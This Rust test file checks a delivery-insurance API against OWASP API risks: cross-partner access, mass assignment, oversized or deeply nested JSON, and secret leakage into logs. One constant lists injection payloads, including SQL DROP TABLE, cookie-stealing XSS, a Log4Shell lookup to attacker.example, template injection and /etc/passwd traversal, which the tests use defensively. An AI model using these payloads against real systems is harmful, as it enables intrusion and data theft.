//! OWASP API Security Top 10 (2023) cases that apply here and are not already covered by the
//! route tests: API1 object-level authorization across partners on every route at once, API3
//! property-level authorization (server fields in bodies), API4 resource consumption (huge
//! strings, deep JSON), API8/API10 injection-shaped input stored and returned intact, and
//! secrets absent from every log line. Authentication forgeries (API2) are in `auth.rs`.

use blackbox::jwt;
use blackbox::{event, send, stack, unique_tn, Partner};
use serde_json::{json, Value};

#[tokio::test]
async fn another_partners_ids_on_every_route_are_404_and_change_nothing() {
    let a = Partner::full().await;
    let b = Partner::full().await;
    let d = a.create_delivery().await;
    let before = a.stored(&d.tracking_number).await;
    let tn = &d.tracking_number;

    // Signed with B's key (a signature with A's key would need A's secret).
    let sig = b.sign(tn, d.premium);
    let mut track = a.tracking_body(&d, "in_delivery", vec![event("hijack", 5)]);
    track["signature"] = json!(sig);
    b.track(&track).await.expect_error(404, "not_found");
    let mut cancel = a.cancel_body(&d);
    cancel["signature"] = json!(sig);
    b.cancel(&cancel).await.expect_error(404, "not_found");
    b.delivery(tn).await.expect_error(404, "not_found");
    b.policy(&d.policy_id).await.expect_error(404, "not_found");

    // B's own delivery with A's policy id: 404, B's policy untouched.
    let own = b.create_delivery().await;
    let mut cross = b.cancel_body(&own);
    cross["policy_id"] = json!(d.policy_id);
    b.cancel(&cross).await.expect_error(404, "not_found");
    assert_eq!(
        b.stored(&own.tracking_number).await["policy"]["policy_status"],
        "active"
    );

    // B may insure the same tracking number: its own policy, A's untouched.
    let mine = b.submit(&b.submit_body_for(tn, 3_000_000, 15_000)).await;
    let mine = mine.expect_success(201);
    assert_ne!(mine["policy_id"], json!(d.policy_id));
    let listed = b.list(&[("limit", "100")]).await;
    for item in listed.expect(200)["items"].as_array().unwrap() {
        assert_ne!(
            item["policy"]["policy_id"],
            json!(d.policy_id),
            "A's policy in B's list"
        );
    }
    assert_eq!(a.stored(tn).await, before, "A's delivery changed");
}

#[tokio::test]
async fn server_fields_sent_in_bodies_change_nothing() {
    let p = Partner::full().await;
    let other = Partner::full().await;
    let mut body = p.submit_body();
    for (k, v) in [
        ("policy_status", json!("cancelled")),
        ("policy_id", json!("pol_chosen_by_caller")),
        ("partner_id", json!(other.kit.partner_id)),
        ("delivery_status", json!("success")),
        ("currency", json!("USD")),
        ("premium_rate_bps", json!(0)),
        ("min_premium", json!(0)),
        ("max_item_value", json!(1)),
        ("version", json!(99)),
        ("event_ids", json!(["x"])),
        ("created_at", json!("2000-01-01T00:00:00Z")),
        (
            "policy",
            json!({"policy_status": "cancelled", "premium_amount": 1}),
        ),
        ("tracking_history", json!([event("forged", 1)])),
    ] {
        body[k] = v;
    }
    let out = p.submit(&body).await.expect_success(201).clone();
    assert_ne!(out["policy_id"], "pol_chosen_by_caller");
    let tn = body["tracking_number"].as_str().unwrap();
    let s = p.stored(tn).await;
    assert_eq!(s["delivery_status"], "created");
    assert_eq!(s["policy"]["policy_status"], "active");
    assert_eq!(s["policy"]["policy_id"], out["policy_id"]);
    assert_eq!(s["policy"]["currency"], "VND");
    assert_eq!(s["policy"]["premium_amount"], 15_000);
    assert_eq!(s["policy"]["premium_rate_bps"], 50);
    assert_eq!(s["tracking_history"], json!([]));
    assert_ne!(s["created_at"], "2000-01-01T00:00:00Z");
    assert!(s
        .get("partner_id")
        .is_none_or(|v| v != &json!(other.kit.partner_id)));
    other.assert_not_stored(tn).await;

    // Tracking and cancel bodies: the same fields are ignored too.
    let d = blackbox::Delivery {
        tracking_number: tn.to_string(),
        policy_id: out["policy_id"].as_str().unwrap().to_string(),
        url_certificate: String::new(),
        premium: 15_000,
        body: body.clone(),
    };
    let mut track = p.tracking_body(&d, "in_process", vec![event("picked", 1)]);
    track["policy_status"] = json!("cancelled");
    track["partner_id"] = json!(other.kit.partner_id);
    track["premium_amount"] = json!(1);
    p.track(&track).await.expect_success(200);
    let s = p.stored(tn).await;
    assert_eq!(s["delivery_status"], "in_process");
    assert_eq!(s["policy"]["policy_status"], "active");
    assert_eq!(s["policy"]["premium_amount"], 15_000);
}

#[tokio::test]
async fn huge_strings_and_deeply_nested_json_are_refused_without_a_5xx() {
    let p = Partner::full().await;
    // A 60 KiB string in a field: within the body limit, over the field's limit.
    let mut body = p.submit_body();
    body["customer_name"] = json!("A".repeat(60 * 1024));
    let r = p.submit(&body).await;
    r.expect_validation("customer_name");
    p.assert_not_stored(body["tracking_number"].as_str().unwrap())
        .await;

    // 20,000 levels of nesting inside an otherwise valid body (an unknown field).
    let body = p.submit_body();
    let tn = body["tracking_number"].as_str().unwrap().to_string();
    let mut text = serde_json::to_string(&body).unwrap();
    text.pop();
    text.push_str(&format!(
        ",\"nested\":{}{}}}",
        "[".repeat(20_000),
        "]".repeat(20_000)
    ));
    let r = p
        .post_raw(
            "/sme-deliveries",
            Some("application/json"),
            text.into_bytes(),
        )
        .await;
    if r.status >= 500 || r.status == 201 {
        r.fail("deeply nested JSON must be refused, not crash or be stored");
    }
    r.expect_error(400, "invalid_json");
    p.assert_not_stored(&tn).await;

    // 100 events with long strings in one tracking request, just under 64 KiB: accepted or a
    // clear 4xx, never a 5xx.
    let d = p.create_delivery().await;
    let events: Vec<Value> = (0..100)
        .map(|i| {
            let mut e = event("in_process", i);
            e["tracking_desctiption"] = json!("x".repeat(500));
            e
        })
        .collect();
    let r = p.track(&p.tracking_body(&d, "in_process", events)).await;
    if r.status >= 500 {
        r.fail("a large tracking request must not be a 5xx");
    }
}

const INJECTIONS: [&str; 10] = [
    "Robert'); DROP TABLE deliveries;--",
    "<script>alert(document.cookie)</script>",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}} #{7*7} ${7*7}",
    "../../../../etc/passwd",
    "\" OR \"1\"=\"1",
    "#attr = :v, SET policy_status = cancelled",
    "$where: function() { return true }",
    "Nguyễn 😀 \u{202e}gnp.exe \\u0000 \\n\r\n",
    "%00%0d%0aSet-Cookie: x=1",
];

#[tokio::test]
async fn injection_shaped_strings_are_stored_and_returned_intact() {
    let p = Partner::full().await;
    let mut body = p.submit_body();
    let fields = [
        "customer_name",
        "pickup_address",
        "drop_up_address",
        "type_of_goods",
        "goods_description",
        "sender_name",
        "recipient_name",
        "sender_name",
        "recipient_name",
        "type_of_goods",
    ];
    for (f, v) in fields.iter().zip(INJECTIONS) {
        body[*f] = json!(v);
    }
    let d = p.create_from(body.clone()).await;
    let events: Vec<Value> = INJECTIONS
        .iter()
        .enumerate()
        .map(|(i, v)| {
            let mut e = event("in_process", i as u32);
            e["tracking_desctiption"] = json!(v);
            e["handler_name"] = json!(v);
            e
        })
        .collect();
    p.track(&p.tracking_body(&d, "in_process", events.clone()))
        .await
        .expect_success(200);
    let stored = p.stored(&d.tracking_number).await;
    for f in fields {
        assert_eq!(stored[f], body[f], "{f} not returned intact");
    }
    let history = stored["tracking_history"].as_array().unwrap();
    assert_eq!(history.len(), INJECTIONS.len());
    for (h, e) in history.iter().zip(&events) {
        assert_eq!(h["tracking_desctiption"], e["tracking_desctiption"]);
        assert_eq!(h["handler_name"], e["handler_name"]);
    }
    // And in the list, where the delivery is read through an index.
    let listed = p.list(&[("limit", "10")]).await;
    let item = listed.expect(200)["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["tracking_number"] == json!(d.tracking_number))
        .cloned()
        .expect("listed");
    for f in fields {
        assert_eq!(item[f], body[f], "{f} not listed intact");
    }
}

/// Every string value in a JSON document, recursively.
fn strings(v: &Value, out: &mut Vec<String>) {
    match v {
        Value::String(s) => out.push(s.clone()),
        Value::Array(a) => a.iter().for_each(|x| strings(x, out)),
        Value::Object(o) => o.values().for_each(|x| strings(x, out)),
        _ => {}
    }
}

#[tokio::test]
async fn secrets_and_tokens_never_appear_in_any_log_line() {
    let st = stack();
    let p = Partner::full().await;
    let token = p.token().await;
    let wrong_secret = format!("cs_wrong_{}", unique_tn());
    // Successful and failing calls, with secrets where they should not be.
    let _ = send(
        "token, wrong secret".into(),
        p.http
            .post(&p.kit.token_url)
            .basic_auth(&p.kit.client_id, Some(&wrong_secret))
            .form(&[("grant_type", "client_credentials")]),
    )
    .await;
    let _ = send(
        "token, form credentials".into(),
        p.http.post(&p.kit.token_url).form(&[
            ("grant_type", "client_credentials"),
            ("client_id", p.kit.client_id.as_str()),
            ("client_secret", p.kit.client_secret.as_str()),
        ]),
    )
    .await;
    let d = p.create_delivery().await;
    let mut bad = p.submit_body();
    bad["signature"] = json!(format!("{}x", p.kit.api_token_key));
    p.submit(&bad).await.expect_error(403, "invalid_signature");
    p.track(&p.tracking_body(&d, "in_process", vec![event("a", 1)]))
        .await
        .expect_success(200);
    let url = p.url(&format!("/sme-deliveries?access_token={token}"));
    let _ = send("token in query".into(), p.http.get(&url)).await;
    p.get_with("/sme-deliveries", Some(&format!("{token}x")))
        .await
        .expect_invalid_token();
    p.get("/sme-deliveries?limit=1").await.expect(200);

    // The secrets: this partner's, the signing keys and the link key.
    let mut secrets = vec![
        ("client_secret", p.kit.client_secret.clone()),
        ("api_token_key", p.kit.api_token_key.clone()),
        ("wrong client secret", wrong_secret),
        ("access token", token.clone()),
        (
            "access token signature",
            token.rsplit('.').next().unwrap().to_string(),
        ),
    ];
    // The demo partner's kit, which devstack onboards at start (opsctl prints it).
    let demo = st.demo_kit_json();
    for k in ["client_secret", "api_token_key"] {
        secrets.push((k, demo[k].as_str().unwrap().to_string()));
    }
    let info = st.stack_json();
    for id_field in ["signing_keys_secret_id", "link_key_secret_id"] {
        let id = info[id_field].as_str().unwrap();
        let r = jwt::secrets_manager(&p.http, st, "GetSecretValue", &json!({"SecretId": id})).await;
        assert_eq!(r.status, 200, "{}", r.text);
        let text = r.json["SecretString"].as_str().unwrap().to_string();
        let mut found = Vec::new();
        match serde_json::from_str::<Value>(&text) {
            Ok(v) => strings(&v, &mut found),
            Err(_) => found.push(text),
        }
        for s in found.into_iter().filter(|s| s.len() >= 24) {
            // Public keys may be logged; private and HMAC keys may not.
            let public = jwt::real_keys(&p.http)
                .await
                .iter()
                .any(|k| k.public_b64 == s);
            if !public {
                secrets.push((id_field, s));
            }
        }
    }

    // Give the functions a moment to flush their logs, then read every log of the stack.
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    let logs = st.state_dir().join("logs");
    let mut read = 0;
    let mut leaks = Vec::new();
    for entry in std::fs::read_dir(&logs)
        .unwrap_or_else(|e| panic!("{}: {e}", logs.display()))
        .flatten()
    {
        let text =
            String::from_utf8_lossy(&std::fs::read(entry.path()).unwrap_or_default()).into_owned();
        read += text.lines().count();
        for (what, secret) in &secrets {
            if text.contains(secret.as_str()) {
                leaks.push(format!("{what} in {}", entry.path().display()));
            }
        }
    }
    assert!(read > 0, "no log lines under {}", logs.display());
    assert!(leaks.is_empty(), "secrets in logs: {leaks:#?}");
}
